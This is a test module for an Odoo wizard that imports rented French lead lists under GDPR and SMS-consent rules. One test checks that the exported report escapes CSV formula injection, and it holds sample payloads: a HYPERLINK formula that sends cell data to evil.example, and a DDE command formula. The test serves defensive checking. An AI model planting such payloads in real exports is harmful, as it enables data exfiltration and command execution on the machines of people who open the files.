import base64
import csv
import io
import json
from datetime import date
from pathlib import Path

import openpyxl

from odoo.exceptions import UserError
from odoo.tests import Form, new_test_user, tagged

from .common import SmsGdprCase
from .import_common import BINARY_DATA, ImportFileAssertions

# The sample purchased list kept with the core tests: Windows-1252, ";", CRLF, French headers.
RENTED_LIST_PATH = Path(__file__).resolve().parents[2] / "tests" / "data" / "rented_list_fr.csv"
# A list whose cells are spreadsheet formulas, kept with the core tests.
FORMULAS_PATH = RENTED_LIST_PATH.with_name("formulas.csv")

# Line of rented_list_fr.csv -> (decision, reason codes) when the wizard gives every missing value.
RENTED_LIST_EXPECTED = {
    2: ("import", ""),
    3: ("skip", "duplicate_in_file"),
    4: ("import", ""),
    5: ("warning", "consent_without_date"),
    6: ("import", ""),
    7: ("import", ""),
    8: ("import", ""),
    9: ("import", ""),
    10: ("import", ""),
    11: ("warning", "several_numbers"),
    12: ("warning", "not_mobile"),
    13: ("warning", "invalid_number"),
    14: ("import", ""),
    15: ("warning", "consent_without_date"),
    16: ("warning", "not_mobile"),
    17: ("import", ""),
    18: ("warning", "invalid_date"),
    19: ("warning", "region_mismatch"),
    20: ("warning", "country_assumed"),
}

HEADER = "Société;Nom;Prénom;Portable;Pays;Source;Date de collecte;Base légale\r\n"


def csv_bytes(*lines, header=HEADER):
    return (header + "".join(line + "\r\n" for line in lines)).encode("cp1252")


@tagged("post_install", "-at_install")
class TestListImport(SmsGdprCase, ImportFileAssertions):

    def _wizard(self, data, filename="list.csv", user=None, **vals):
        return self.env["sms.gdpr.list.import"].with_user(user or self.env.user).create({
            "file": base64.b64encode(data),
            "filename": filename,
            "default_legal_basis": "legitimate_interest",
            "default_data_source": "rented_list",
            "default_provider": "Exemple Data",
            "default_collection_date": date(2026, 3, 31),
            **vals,
        })

    def _rented_list(self):
        return RENTED_LIST_PATH.read_bytes()

    def _line(self, wizard, number):
        line = wizard.line_ids.filtered(lambda report_line: report_line.line_number == number)
        self.assertEqual(len(line), 1, f"expected one report line {number}")
        return line

    def _leads_of(self, e164):
        return self.env["crm.lead"].with_context(active_test=False).search([("sms_gdpr_e164", "=", e164)])

    def test_rented_list_report(self):
        wizard = self._wizard(self._rented_list(), "rented_list_fr.csv")
        wizard.action_import()
        self.assertEqual(wizard.state, "done")
        self.assertEqual(wizard.line_ids.mapped("line_number"), list(RENTED_LIST_EXPECTED))
        for number, (decision, codes) in RENTED_LIST_EXPECTED.items():
            line = self._line(wizard, number)
            with self.subTest(line=number):
                self.assertEqual(line.decision, decision, line.reasons)
                self.assertEqual(line.reason_codes or "", codes, line.reasons)
                self.assertEqual(bool(line.lead_id), decision != "skip")
        self.assertEqual(len(wizard.lead_ids), 18)
        self.assertEqual((wizard.import_count, wizard.warning_count, wizard.skip_count, wizard.reject_count),
                         (9, 9, 1, 0))
        self.assertIn("line 2", self._line(wizard, 3).reasons)
        self.assertIn("31/02/2026", self._line(wizard, 18).reasons)

    def test_rented_list_lead_values(self):
        wizard = self._wizard(self._rented_list(), "rented_list_fr.csv")
        wizard.action_import()
        claire = self._line(wizard, 2).lead_id
        self.assertEqual(claire.partner_name, "Atelier Exemple SARL")
        self.assertEqual(claire.contact_name, "Claire Martin")
        self.assertEqual(claire.sms_gdpr_e164, "+33612345601")
        self.assertEqual(claire.phone, "+33 1 99 00 12 01")
        self.assertEqual(claire.sms_gdpr_data_source, "event")
        self.assertEqual(claire.sms_gdpr_data_source_detail, "Salon Préventica 2026")
        self.assertEqual(claire.sms_gdpr_collection_date, date(2026, 3, 12))
        self.assertEqual(claire.sms_gdpr_legal_basis, "legitimate_interest")
        self.assertTrue(claire.sms_gdpr_eligible)

        reunion = self._line(wizard, 8).lead_id
        self.assertEqual((reunion.sms_gdpr_e164, reunion.sms_gdpr_number_region), ("+262692123456", "RE"))
        self.assertEqual(reunion.country_id.code, "RE")
        belgian = self._line(wizard, 6).lead_id
        self.assertEqual((belgian.sms_gdpr_e164, belgian.country_id.code), ("+32470123456", "BE"))
        self.assertEqual(belgian.sms_gdpr_list_provider_id.name, "Exemple Data")
        self.assertTrue(belgian.sms_gdpr_list_provider_id.is_company)
        self.assertEqual(self._line(wizard, 7).lead_id.sms_gdpr_e164, "+41791234567")

        two_numbers = self._line(wizard, 11).lead_id
        self.assertEqual(two_numbers.sms_gdpr_e164, "+33612345605")
        self.assertEqual(two_numbers.phone, "+33 1 99 00 12 05")
        self.assertEqual(self._line(wizard, 14).lead_id.mobile, "+33 6 12 34 56 07")
        self.assertEqual(self._line(wizard, 10).lead_id.sms_gdpr_e164, "+33612345604")
        self.assertEqual(self._line(wizard, 10).lead_id.sms_gdpr_collection_date, date(2026, 3, 31))

        landline = self._line(wizard, 12).lead_id
        self.assertFalse(landline.mobile)
        self.assertEqual(landline.sms_gdpr_exclusion_reason, "not_mobile")
        no_number = self._line(wizard, 13).lead_id
        self.assertEqual(no_number.sms_gdpr_exclusion_reason, "no_number")
        self.assertIn("Invalid numbers in the file, left out: n/a", str(no_number.description))
        self.assertEqual(self._line(wizard, 16).lead_id.sms_gdpr_legal_basis, "legitimate_interest")
        self.assertEqual(self._line(wizard, 15).lead_id.sms_gdpr_exclusion_reason, "consent_missing")

        impossible_date = self._line(wizard, 18).lead_id
        self.assertFalse(impossible_date.sms_gdpr_collection_date)
        self.assertEqual(impossible_date.sms_gdpr_e164, "+33612345611")
        defaulted = self._line(wizard, 17).lead_id
        self.assertEqual(defaulted.sms_gdpr_data_source, "rented_list")
        self.assertEqual(defaulted.sms_gdpr_list_provider_id, belgian.sms_gdpr_list_provider_id,
                         "every row of one provider links to the same contact")

        assumed = self._line(wizard, 20).lead_id
        self.assertEqual(assumed.sms_gdpr_e164, "+596696123456")
        self.assertTrue(assumed.sms_gdpr_country_assumed)
        self.assertIn("line 20", str(assumed.description))

    def test_missing_values_required(self):
        wizard = self._wizard(self._rented_list(), "rented_list_fr.csv", default_legal_basis=False,
                              default_collection_date=False)
        wizard.action_check()
        self.assertEqual(wizard.missing_legal_basis_count, 1)
        self.assertEqual(wizard.missing_collection_date_count, 2)
        with self.assertRaisesRegex(UserError, "1 rows have no legal basis"):
            wizard.action_import()
        self.assertFalse(self._leads_of("+33612345601"))

    def test_reimported_opt_out_stays(self):
        lead = self._lead("Claire", "06 12 34 56 01")
        self.env["sms.gdpr.compliance.mixin"]._sms_gdpr_opt_out_numbers(["+33612345601"], "sms_reply")
        self.assertTrue(lead.sms_gdpr_opt_out)
        wizard = self._wizard(csv_bytes("Atelier;Martin;Claire;+33 6 12 34 56 01;France;Salon;12/03/2026;intérêt légitime"))
        wizard.action_import()
        line = self._line(wizard, 2)
        self.assertEqual(line.decision, "skip")
        self.assertEqual(line.reason_codes, "opted_out,existing_lead")
        self.assertEqual(self._leads_of("+33612345601"), lead)
        self.assertTrue(lead.sms_gdpr_opt_out)
        self.assertEqual(lead.sms_gdpr_opt_out_channel, "sms_reply")
        self.assertTrue(lead.sms_gdpr_blacklisted)

    def test_archived_opt_out_blocks_import(self):
        partner = self._partner("Claire", "06 12 34 56 01", sms_gdpr_opt_out=True)
        partner.action_archive()
        self.env["phone.blacklist"].sudo()._remove(["+33612345601"])
        wizard = self._wizard(csv_bytes("Atelier;Martin;Claire;06 12 34 56 01;France;Salon;12/03/2026;"))
        wizard.action_import()
        self.assertEqual(self._line(wizard, 2).reason_codes, "opted_out,existing_contact")
        self.assertFalse(self._leads_of("+33612345601"))

    def test_blacklisted_and_suppressed_skipped(self):
        self.env["phone.blacklist"].sudo()._add(["+33612345602"])
        self.env["sms.gdpr.suppression"]._add_numbers(["+33612345603"], self.company)
        wizard = self._wizard(csv_bytes(
            "A;Durand;Paul;06 12 34 56 02;France;Salon;12/03/2026;",
            "B;Petit;Léa;06 12 34 56 03;France;Salon;12/03/2026;",
            "C;Roux;Inès;06 12 34 56 04;France;Salon;12/03/2026;",
        ))
        wizard.action_import()
        self.assertEqual(self._line(wizard, 2).reason_codes, "blacklisted")
        self.assertEqual(self._line(wizard, 3).reason_codes, "suppressed")
        self.assertEqual(self._line(wizard, 4).decision, "import")
        self.assertFalse(self._leads_of("+33612345602"))
        self.assertFalse(self._leads_of("+33612345603"))
        self.assertEqual(len(self._leads_of("+33612345604")), 1)

    def test_existing_lead_and_contact_deduplicated(self):
        existing_lead = self._lead("Paul", "+33612345602")
        self._partner("Léa", "0612345603")
        wizard = self._wizard(csv_bytes(
            "A;Durand;Paul;06.12.34.56.02;France;Salon;12/03/2026;",
            "B;Petit;Léa;0033612345603;;Salon;12/03/2026;",
            "C;Roux;Inès;06 12 34 56 04;France;Salon;12/03/2026;",
        ))
        wizard.action_import()
        self.assertEqual(self._line(wizard, 2).reason_codes, "existing_lead")
        self.assertIn("Paul", self._line(wizard, 2).reasons)
        self.assertEqual(self._line(wizard, 3).reason_codes, "existing_contact")
        self.assertEqual(self._leads_of("+33612345602"), existing_lead)
        self.assertFalse(self._leads_of("+33612345603"))
        self.assertEqual(wizard.lead_ids.mapped("sms_gdpr_e164"), ["+33612345604"])

    def test_same_file_twice_creates_nothing_new(self):
        first = self._wizard(self._rented_list(), "rented_list_fr.csv")
        first.action_import()
        jade = self._line(first, 13).lead_id
        second = self._wizard(self._rented_list(), "rented_list_fr.csv")
        second.action_import()
        self.assertFalse(second.lead_ids)
        self.assertEqual(self._line(second, 2).reason_codes, "existing_lead")
        numberless = self._line(second, 13)
        self.assertEqual((numberless.decision, numberless.reason_codes.split(",")[0]), ("skip", "existing_lead_contact"))
        self.assertIn(f"as the lead “{jade.display_name}”", numberless.reasons)
        leads = self.env["crm.lead"].search([("contact_name", "=", "Jade Fontaine")])
        self.assertEqual(leads, jade)

    def test_numberless_row_matched_by_contact_email(self):
        self.env["res.partner"].create({"name": "Jade Fontaine", "email": "Jade.Fontaine@Agence-Modele.test"})
        data = "Société;Nom;Prénom;E-mail;Pays\r\nAgence Modèle;Fontaine;Jade;jade.fontaine@agence-modele.test;France\r\n"
        wizard = self._wizard(data.encode("cp1252"))
        wizard.action_import()
        line = self._line(wizard, 2)
        self.assertEqual((line.decision, line.reason_codes.split(",")[0]), ("skip", "existing_contact_email"))
        self.assertFalse(wizard.lead_ids)

    def test_numberless_row_matched_by_email(self):
        existing = self._lead("Jade F.", False, email_from="Jade.Fontaine@Agence-Modele.test", partner_name="Other")
        wizard = self._wizard(csv_bytes("Agence Modèle;Fontaine;Jade;;France;Salon;12/03/2026;"))
        wizard.action_import()
        self.assertEqual(self._line(wizard, 2).decision, "warning", "matched by names in spite of no e-mail match")
        data = ("Société;Nom;Prénom;E-mail;Pays\r\n"
                "Agence Modèle;Fontaine;Jade;jade.fontaine@agence-modele.test;France\r\n"
                "Agence Modèle;Fontaine;Jade;other@agence-modele.test;France\r\n")
        second = self._wizard(data.encode("cp1252"))
        second.action_import()
        by_email, other_email = self._line(second, 2), self._line(second, 3)
        self.assertEqual(by_email.reason_codes.split(",")[0], "existing_lead_contact")
        self.assertIn(existing.display_name, by_email.reasons)
        self.assertEqual(other_email.decision, "warning", "an e-mail of its own must not be matched by names")

    def test_numberless_row_matched_by_names(self):
        existing = self._lead("Agence", "06 12 34 56 01", contact_name="Jade Fontaine", partner_name="Agence Modèle")
        existing.action_archive()
        other_company = self.env["res.company"].create({"name": "Other Agency"})
        self.env["crm.lead"].create({
            "name": "Elsewhere", "contact_name": "Paul Durand", "partner_name": "Boulangerie",
            "company_id": other_company.id,
        })
        wizard = self._wizard(csv_bytes(
            "AGENCE MODELE;FONTAINE;jade;;France;Salon;12/03/2026;",
            "Boulangerie;Durand;Paul;;France;Salon;12/03/2026;",
            "Boulangerie;Durand;Paul;;France;Salon;12/03/2026;",
        ))
        wizard.action_import()
        matched, other, repeated = self._line(wizard, 2), self._line(wizard, 3), self._line(wizard, 4)
        self.assertEqual(matched.reason_codes.split(",")[0], "existing_lead_contact")
        self.assertIn("“jade FONTAINE, AGENCE MODELE”", matched.reasons)
        self.assertEqual(other.decision, "warning", "a lead of another company was matched")
        self.assertEqual(repeated.reason_codes.split(",")[0], "duplicate_contact_in_file")
        self.assertIn("line 3", repeated.reasons)
        self.assertEqual(wizard.lead_ids, other.lead_id)

    def test_check_creates_nothing(self):
        wizard = self._wizard(self._rented_list(), "rented_list_fr.csv")
        wizard.action_check()
        self.assertEqual(wizard.state, "checked")
        self.assertEqual(len(wizard.line_ids), 19)
        self.assertFalse(self._line(wizard, 2).lead_id)
        self.assertFalse(self._leads_of("+33612345601"))

    def test_import_logged(self):
        wizard = self._wizard(self._rented_list(), "rented_list_fr.csv")
        wizard.action_import()
        event = self.env["sms.gdpr.event"].search([("event_type", "=", "import")], order="sequence desc", limit=1)
        self.assertEqual(event.new_value, "18")
        details = json.loads(event.details)
        self.assertEqual(details["kind"], "lead_list")
        self.assertEqual(details["file"], "rented_list_fr.csv")
        self.assertEqual(details["decisions"], {"import": 9, "warning": 9, "skip": 1})
        self.assertEqual(sorted(details["lead_ids"]), sorted(wizard.lead_ids.ids))
        self.assertEqual(len(details["sha256"]), 64)

    def test_report_csv(self):
        wizard = self._wizard(self._rented_list(), "rented_list_fr.csv")
        wizard.action_import()
        action = wizard.action_download_report()
        self.assertIn("/report_file/", action["url"])
        text = base64.b64decode(wizard.report_file).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
        self.assertEqual(rows[0][:2], ["Line", "Name"])
        self.assertEqual(len(rows), 20)
        self.assertEqual(rows[2][:5], ["3", "Claire Martin", "'+33 6 12 34 56 01", "'+33612345601", "Skip"])
        self.assertEqual(wizard.report_filename, "rented_list_fr - report.csv")

    def test_report_csv_escapes_formulas(self):
        wizard = self._wizard(FORMULAS_PATH.read_bytes(), "formulas.csv")
        wizard.action_import()
        text = base64.b64decode(wizard.report_file).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
        self.assertEqual(rows[1][1:4], ["'@SUM(A1) =1+1", "'+33612345678", "'+33612345678"])
        self.assertEqual(rows[2][1], "P Nom")
        for row in rows:
            for cell in row:
                self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"unescaped cell {cell!r}")

        hyperlink, command = self._line(wizard, 2).lead_id, self._line(wizard, 3).lead_id
        self.assertEqual(hyperlink.name, '=HYPERLINK("http://evil.example/?"&A1,"x")')
        self.assertEqual(hyperlink.contact_name, "@SUM(A1) =1+1")
        self.assertEqual(hyperlink.sms_gdpr_data_source_detail, "-2+3")
        self.assertEqual(command.partner_name, "=cmd|' /C calc'!A0")
        self.assertEqual(self._line(wizard, 2).name, "@SUM(A1) =1+1", "the report line keeps the value")

    def test_form_flow(self):
        wizard_form = Form(self.env["sms.gdpr.list.import"])
        wizard_form.file = base64.b64encode(self._rented_list())
        wizard_form.default_data_source = "rented_list"
        wizard_form.default_provider = "Exemple Data"
        wizard = wizard_form.save()
        wizard.filename = "rented_list_fr.csv"
        wizard.action_check()
        self.assertEqual(wizard.missing_legal_basis_count, 1)
        with Form(wizard) as checked_form:
            checked_form.default_legal_basis = "legitimate_interest"
            checked_form.default_collection_date = date(2026, 3, 31)
        wizard.action_import()
        self.assertEqual(len(wizard.lead_ids), 18)
        action = wizard.action_open_leads()
        self.assertEqual(self.env["crm.lead"].search(action["domain"]), wizard.lead_ids)

    def test_salesperson_can_import(self):
        salesman = new_test_user(self.env, login="rep_list_import", groups="sales_team.group_sale_salesman")
        wizard = self._wizard(csv_bytes("A;Durand;Paul;06 12 34 56 02;France;Salon;12/03/2026;"), user=salesman)
        wizard.action_import()
        self.assertEqual(wizard.lead_ids.user_id, salesman)

    def test_xlsx_with_english_headers(self):
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(["Company", "First name", "Last name", "Mobile", "Country", "Collection date", "Legal basis",
                      "Lead source", "Shoe size"])
        sheet.append(["Acme", "Ann", "Lee", 33612345607.0, "Belgium", date(2026, 2, 1), "Legitimate interest",
                      "Trade show", 42])
        sheet.append(["Beta", "Bob", "Ray", 612345608, "France", "01/02/2026", "client", "Webinar", None])
        buffer = io.BytesIO()
        workbook.save(buffer)
        wizard = self._wizard(buffer.getvalue(), "list.xlsx")
        wizard.action_import()
        self.assertEqual(wizard.file_summary, "XLSX workbook, first sheet")
        self.assertEqual(wizard.ignored_columns, "Shoe size")
        first, second = self._line(wizard, 2).lead_id, self._line(wizard, 3).lead_id
        self.assertEqual(first.sms_gdpr_e164, "+33612345607")
        self.assertEqual(first.sms_gdpr_collection_date, date(2026, 2, 1))
        self.assertEqual(first.sms_gdpr_data_source, "event")
        self.assertIn("Shoe size", str(first.description))
        self.assertEqual(second.sms_gdpr_e164, "+33612345608")
        self.assertEqual(second.sms_gdpr_legal_basis, "contract")
        self.assertEqual(self._line(wizard, 2).reason_codes, "region_mismatch")

    def test_text_in_number_cell_invalid(self):
        wizard = self._wizard(csv_bytes(
            "E;Martin;Eve;garbage;France;Salon;12/03/2026;",
            "F;Petit;Léa;;France;Salon;12/03/2026;",
        ))
        wizard.action_import()
        garbage, empty = self._line(wizard, 2), self._line(wizard, 3)
        self.assertEqual(garbage.reason_codes, "invalid_number")
        self.assertIn("“garbage” is not a valid phone number", garbage.reasons)
        self.assertEqual(garbage.raw_number, "garbage")
        self.assertIn("garbage", str(garbage.lead_id.description))
        self.assertEqual(empty.reason_codes, "no_number")

    def test_unreadable_files_rejected(self):
        with self.assertRaisesRegex(UserError, "Excel 97-2003"):
            self._wizard(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64, "old.xls").action_check()
        with self.assertRaisesRegex(UserError, "names no known column"):
            self._wizard(b"foo;bar\r\n1;2\r\n", "odd.csv").action_check()
        with self.assertRaisesRegex(UserError, "Choose the file"):
            self.env["sms.gdpr.list.import"].create({}).action_check()

    def test_huge_cell_rejects_row(self):
        data = ("Société;Nom;Portable\r\n" + "A" * 2_000_000 + ";Martin;0612345601\r\nAcme;Petit;0612345602\r\n")
        wizard = self._wizard(data.encode("utf-8"), "huge.csv")
        wizard.action_import()
        huge, normal = self._line(wizard, 2), self._line(wizard, 3)
        self.assertEqual((huge.decision, huge.reason_codes), ("reject", "cell_too_long"))
        self.assertIn("The “Société” cell has 2000000 characters, more than the 1000", huge.reasons)
        self.assertFalse(huge.lead_id)
        self.assertFalse(self._leads_of("+33612345601"))
        self.assertEqual(wizard.lead_ids, normal.lead_id)
        self.assertEqual(normal.lead_id.partner_name, "Acme")
        report = base64.b64decode(wizard.report_file).decode("utf-8-sig")
        self.assertLess(len(report), 2000, "the report carries the huge cell")
        event = self.env["sms.gdpr.event"].search([("event_type", "=", "import")], order="sequence desc", limit=1)
        self.assertLess(len(event.details), 2000, "the audit log carries the huge cell")

    def test_empty_and_header_only_files(self):
        cases = [
            (b"", "empty.csv", "The file “empty.csv” is empty"),
            (b"  \r\n", "blank.csv", "The file “blank.csv” is empty"),
            (HEADER.encode("cp1252"), "header.csv", "The file “header.csv” has a header line but no data rows"),
            (HEADER.encode("cp1252") + b";;;;;;;\r\n\r\n", "blank_rows.csv", "“blank_rows.csv” has a header line"),
        ]
        for data, filename, message in cases:
            self.assert_file_rejected(self._wizard(data, filename), message)

    def test_binary_file_rejected(self):
        wizard = self._wizard(BINARY_DATA, "photo.csv")
        self.assert_file_rejected(wizard, "The file “photo.csv” cannot be read as CSV or XLSX")
